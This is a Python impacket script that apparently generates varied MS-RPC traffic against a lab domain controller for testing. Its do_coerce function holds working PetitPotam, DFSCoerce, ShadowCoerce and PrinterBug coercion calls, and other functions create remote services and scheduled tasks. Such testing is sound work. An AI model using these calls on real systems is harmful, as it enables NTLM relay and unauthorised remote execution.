#!/usr/bin/python3
"""RPC calls with impacket, shaped as one likes.

impacket_client.py WHAT[,WHAT...] [--np] [--dialect D] [--port N] [--level L] [--frag N] [--anonymous]

Over TCP (default) or, with --np, over named pipes.  --level: 1 no authentication,
2 connect, 4 packet, 5 integrity, 6 privacy (always NTLM here).  --frag: at most
so many bytes of a request in a fragment.

WHAT: samr lsa srvs drs netlogon epm   a few ordinary calls
      epmuse                           ask where samr is, then call it there
      oprange badstub                  calls the server answers with a fault
      unknown                          interfaces the server has not
      alter                            alter_context, accepted and refused
      manycontexts                     many contexts in one bind
      object                           requests with an object UUID
      coerce                           the calls of PetitPotam, DFSCoerce, ShadowCoerce,
                                       PrinterBug (naming the lab's own client)
      pipes                            two pipes and a file on one SMB connection
      service registry task            svcctl, winreg, atsvc and ITaskSchedulerService
"""
import argparse
import os

from impacket import smb, smb3structs
from impacket.dcerpc.v5 import (drsuapi, epm, even6, lsad, lsat, mgmt, nrpc, rprn, rrp, samr, scmr, srvs,
                                transport, tsch)
from impacket.dcerpc.v5.dtypes import NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_WINNT
from impacket.smbconnection import SMBConnection
from impacket.uuid import string_to_bin, uuidtup_to_bin

ap = argparse.ArgumentParser()
ap.add_argument("what")
ap.add_argument("--np", action="store_true")
ap.add_argument("--dialect", default="210")
ap.add_argument("--port", type=int)
ap.add_argument("--level", type=int, default=1)
ap.add_argument("--frag", type=int, default=0)
ap.add_argument("--anonymous", action="store_true")
ap.add_argument("--user", default="Administrator")
ap.add_argument("--password", default=os.environ.get("ADMINPW"))
args = ap.parse_args()

SERVER = os.environ["DC1"]
DOMAIN = os.environ["DOMAIN"]
CLIENT = "10.77.0.21"
CRED = ("", "", "") if args.anonymous else (args.user, args.password, DOMAIN)
DIALECT = {"SMB1": smb.SMB_DIALECT, "202": smb3structs.SMB2_DIALECT_002,
           "210": smb3structs.SMB2_DIALECT_21, "300": smb3structs.SMB2_DIALECT_30}[args.dialect]

NAMES = {
    "samr": (samr.MSRPC_UUID_SAMR, "samr"), "lsa": (lsat.MSRPC_UUID_LSAT, "lsarpc"),
    "srvs": (srvs.MSRPC_UUID_SRVS, "srvsvc"), "drs": (drsuapi.MSRPC_UUID_DRSUAPI, "lsass"),
    "netlogon": (nrpc.MSRPC_UUID_NRPC, "netlogon"), "epm": (epm.MSRPC_UUID_PORTMAP, "epmapper"),
    "mgmt": (mgmt.MSRPC_UUID_MGMT, "epmapper"), "svcctl": (scmr.MSRPC_UUID_SCMR, "svcctl"),
    "winreg": (rrp.MSRPC_UUID_RRP, "winreg"), "spoolss": (rprn.MSRPC_UUID_RPRN, "spoolss"),
    "atsvc": (tsch.MSRPC_UUID_TSCHS, "atsvc"), "even6": (even6.MSRPC_UUID_EVEN6, "eventlog"),
    "efs": (uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")), "lsarpc"),
    "efs2": (uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")), "efsrpc"),
    "dfs": (uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")), "netdfs"),
    "fsrvp": (uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0")), "FssagentRpc"),
    "nowhere": (uuidtup_to_bin(("0badf00d-0000-4000-8000-000000000001", "7.3")), "samr"),
    "samr-v9": (uuidtup_to_bin(("12345778-1234-abcd-ef00-0123456789ac", "9.0")), "samr"),
}
UUID = {k: v[0] for k, v in NAMES.items()}


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("fileName", WSTR), ("Flag", ULONG))


class EfsRpcOpenFileRawResponse(NDRCALL):
    structure = (("hContext", '20s=""'), ("ErrorCode", ULONG))


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", ULONG))


class NetrDfsRemoveStdRootResponse(NDRCALL):
    structure = (("ErrorCode", ULONG),)


class IsPathSupported(NDRCALL):
    opnum = 8
    structure = (("ShareName", WSTR),)


class IsPathSupportedResponse(NDRCALL):
    structure = (("ErrorCode", ULONG),)


def connect(name, smb_connection=None):
    uuid, pipe = NAMES[name]
    if args.np:
        t = transport.SMBTransport(SERVER, args.port or 445, "\\" + pipe, *CRED, smb_connection=smb_connection or 0)
        t.preferred_dialect(DIALECT)
        if args.port == 139:
            t.setRemoteName("DC1")
    else:
        port = args.port
        if not port:
            try:
                port = 135 if name == "epm" else int(
                    epm.hept_map(SERVER, uuid, protocol="ncacn_ip_tcp").split("[")[1].rstrip("]"))
            except Exception as e:
                print(" ", name, "not mapped:", e)
                port = 135
        t = transport.TCPTransport(SERVER, port)
        t.set_credentials(*CRED)
    dce = t.get_dce_rpc()
    if args.frag:
        dce.set_max_fragment_size(args.frag)
    if args.level > 1:
        dce.set_credentials(*CRED)
        dce.set_auth_type(RPC_C_AUTHN_WINNT)
        dce.set_auth_level(args.level)
    dce.connect()
    dce.bind(uuid)
    return dce


def attempt(label, f, *a, **k):
    try:
        r = f(*a, **k)
        print(label, "ok")
        return r
    except Exception as e:
        print(label, type(e).__name__, str(e)[:120])


def raw_call(dce, opnum, stub):
    dce.call(opnum, stub)
    return dce.recv()


def do_samr(dce=None):
    d = dce or connect("samr")
    h = samr.hSamrConnect(d)["ServerHandle"]
    sid = samr.hSamrLookupDomainInSamServer(d, h, DOMAIN)["DomainId"]
    dh = samr.hSamrOpenDomain(d, h, domainId=sid)["DomainHandle"]
    attempt("  enumerate", samr.hSamrEnumerateUsersInDomain, d, dh)
    samr.hSamrCloseHandle(d, dh)


def do_lsa(names=4, dce=None):
    d = dce or connect("lsa")
    h = lsad.hLsarOpenPolicy2(d)["PolicyHandle"]
    attempt("  look up %d names" % names, lsat.hLsarLookupNames, d, h, ["staff%03d" % i for i in range(names)])
    lsad.hLsarClose(d, h)


def do_srvs():
    d = connect("srvs")
    attempt("  shares", srvs.hNetrShareEnum, d, 1)
    attempt("  sessions", srvs.hNetrSessionEnum, d, NULL, NULL, 10)


def do_netlogon():
    d = connect("netlogon")
    attempt("  dc name", nrpc.hDsrGetDcNameEx, d, NULL, "corp.example\0", NULL, NULL, 0)
    attempt("  challenge", nrpc.hNetrServerReqChallenge, d, NULL, "WS21\0", b"12345678")


def do_drs():
    d = connect("drs")
    r = drsuapi.DRSBind()
    r["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    e = drsuapi.DRS_EXTENSIONS_INT()
    e["cb"] = len(e)
    e["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V6
    e["SiteObjGuid"] = drsuapi.NULLGUID
    r["pextClient"]["cb"] = len(e)
    r["pextClient"]["rgb"] = list(e.getData())
    h = d.request(r)["phDrs"]
    attempt("  crack names", drsuapi.hDRSCrackNames, d, h, 0, 2, 1, (DOMAIN + "\\Administrator",))


def mapper():
    """Where hept_lookup and hept_map are to ask; they bind by themselves, which works once."""
    if not args.np:
        return None
    d = connect("epm")
    d.bind = lambda *_: None
    return d


def do_epm():
    d = mapper()
    attempt("  look up", epm.hept_lookup, SERVER, dce=d)
    for n in ("samr", "drs", "netlogon", "lsa", "nowhere"):
        attempt("  map " + n, epm.hept_map, SERVER, UUID[n], protocol="ncacn_ip_tcp", dce=d)


def do_epmuse():
    d = mapper()
    for protocol in ("ncacn_np", "ncacn_ip_tcp"):
        found = attempt("  map samr", epm.hept_map, SERVER, UUID["samr"], protocol=protocol, dce=d)
    t = transport.DCERPCTransportFactory(found)
    u = t.get_dce_rpc()
    u.connect()
    u.bind(UUID["samr"])
    for _ in range(3):
        attempt("  SamrConnect", samr.hSamrConnect, u)


def do_oprange():
    for n in ("samr", "netlogon"):
        d = connect(n)
        for op in (200, 1000, 65535):
            attempt("  %s opnum %d" % (n, op), raw_call, d, op, bytes(16))


def do_badstub():
    d = connect("samr")
    for op in (0, 5, 62, 64):
        attempt("  opnum %d" % op, raw_call, d, op, b"\xff" * 33)


def do_unknown():
    for n in ("nowhere", "samr-v9", "even6", "atsvc"):
        attempt("  bind " + n, connect, n)


def do_alter():
    d = connect("netlogon")
    attempt("  dc name", nrpc.hDsrGetDcNameEx, d, NULL, "corp.example\0", NULL, NULL, 0)
    for n in ("mgmt", "nowhere", "samr"):
        e = attempt("  add " + n, d.alter_ctx, UUID[n])
        if e and n == "mgmt":
            attempt("  mgmt inq_if_ids", mgmt.hinq_if_ids, e)
    attempt("  dc name", nrpc.hDsrGetDcNameEx, d, NULL, "corp.example\0", NULL, NULL, 0)


def do_manycontexts():
    t = transport.TCPTransport(SERVER, 135)
    d = t.get_dce_rpc()
    d.connect()
    attempt("  bind", d.bind, UUID["epm"], bogus_binds=5)
    attempt("  look up", epm.hept_lookup, None, dce=d)


def do_object():
    d = connect("mgmt")
    for u in ("11223344-5566-7788-99aa-bbccddeeff00", "00000000-0000-0000-0000-000000000001"):
        attempt("  object", d.request, mgmt.inq_if_ids(), uuid=string_to_bin(u))


def do_coerce():
    target = "\\\\" + CLIENT
    for n in ("efs", "efs2"):
        def efs():
            d = connect(n)
            q = EfsRpcOpenFileRaw()
            q["fileName"], q["Flag"] = target + "\\share\\x\0", 0
            d.request(q)
        attempt("  EfsRpcOpenFileRaw on " + NAMES[n][1], efs)

    def dfs():
        d = connect("dfs")
        q = NetrDfsRemoveStdRoot()
        q["ServerName"], q["RootShare"], q["ApiFlags"] = CLIENT + "\0", "root\0", 0
        d.request(q)
    attempt("  NetrDfsRemoveStdRoot", dfs)

    def shadow():
        d = connect("fsrvp")
        q = IsPathSupported()
        q["ShareName"] = target + "\\share\0"
        d.request(q)
    attempt("  IsPathSupported", shadow)

    def printer():
        d = connect("spoolss")
        h = attempt("  RpcOpenPrinter", rprn.hRpcOpenPrinter, d, "\\\\%s\0" % SERVER)
        q = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
        q["hPrinter"] = h["pHandle"] if h else b"\0" * 20
        q["fdwFlags"], q["pszLocalMachine"], q["pOptions"] = 0x100, target + "\0", NULL
        d.request(q)
    attempt("  RpcRemoteFindFirstPrinterChangeNotificationEx", printer)


def do_pipes():
    c = SMBConnection("DC1", SERVER, sess_port=args.port or 445,
                      preferredDialect=DIALECT)
    c.login(*CRED)
    a, b = connect("lsa", c), connect("samr", c)
    tree = c.connectTree("projects")
    f = c.openFile(tree, "minutes.txt", desiredAccess=0x120089)
    ha = lsad.hLsarOpenPolicy2(a)["PolicyHandle"]
    hb = samr.hSamrConnect(b)["ServerHandle"]
    for i in range(4):
        lsat.hLsarLookupNames(a, ha, ["staff%03d" % i])
        c.readFile(tree, f, i * 1000, 1000)
        samr.hSamrEnumerateDomainsInSamServer(b, hb)
    c.closeFile(tree, f)
    c.close()


def do_service():
    d = connect("svcctl")
    h = scmr.hROpenSCManagerW(d)["lpScHandle"]
    attempt("  list", scmr.hREnumServicesStatusW, d, h)
    attempt("  create", scmr.hRCreateServiceW, d, h, "labsvc\0", "labsvc\0", lpBinaryPathName="C:\\lab.exe\0")
    s = attempt("  open", scmr.hROpenServiceW, d, h, "Spooler\0")
    if s:
        attempt("  status", scmr.hRQueryServiceStatus, d, s["lpServiceHandle"])


def do_registry():
    d = connect("winreg")
    h = rrp.hOpenLocalMachine(d)["phKey"]
    attempt("  enumerate", rrp.hBaseRegEnumKey, d, h, 0)
    k = attempt("  open", rrp.hBaseRegOpenKey, d, h, "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion")
    if k:
        attempt("  value", rrp.hBaseRegQueryValue, d, k["phkResult"], "CurrentVersion")


def do_task():
    d = connect("atsvc")
    attempt("  register", tsch.hSchRpcRegisterTask, d, "\\lab\0", "<Task/>\0", tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    attempt("  run", tsch.hSchRpcRun, d, "\\lab\0")


for w in args.what.split(","):
    name, _, count = w.partition(":")
    attempt(w, globals()["do_" + name], *([int(count)] if count else []))
